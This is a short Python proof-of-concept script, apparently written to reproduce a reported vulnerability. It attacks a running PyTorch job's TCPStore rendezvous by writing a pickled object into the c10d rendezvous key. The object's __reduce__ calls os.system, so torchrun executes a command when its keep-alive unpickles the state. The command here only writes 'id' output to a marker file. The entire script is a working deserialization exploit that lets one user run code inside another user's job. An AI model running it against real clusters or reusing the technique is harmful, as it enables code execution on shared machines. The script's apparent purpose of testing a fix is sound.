"""Another user's attack on a running job's rendezvous store, as issue 67 ran it: the store's endpoint (and, under
c10d, the rendezvous id) as the job's torchrun command lines show them in /proc to every user; then, with torch's
own client, the c10d rendezvous state set to a pickle that creates MARKER once torchrun's dynamic rendezvous
loads it (its keep-alive reads the state every few seconds). Prints one line, what happened: `refused ...` (the
store could not be reached) or `set ...`. Standard library only until the store answers.

    python store_attack.py MARKER HOST PORT [RDZV_ID]
"""

from __future__ import annotations

import base64
import os
import pickle
import socket
import sys
from datetime import timedelta


class Payload:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"id > {self.marker}",)


def main() -> None:
    marker, host, port, rdzv_id = [*sys.argv[1:], ""][:4]
    try:  # torch's client is imported only for a store this user reaches
        socket.create_connection((host, int(port)), timeout=5).close()
    except OSError as exc:
        print(f"refused {host}:{port}: {exc}")
        return
    from torch.distributed import TCPStore

    store = TCPStore(host, int(port), is_master=False, timeout=timedelta(seconds=5), wait_for_workers=False)
    key = f"torch.rendezvous.{rdzv_id}" if rdzv_id else "attack"
    store.set(key, base64.b64encode(pickle.dumps(Payload(marker))))
    print(f"set {key} at {host}:{port}")


if __name__ == "__main__":
    main()
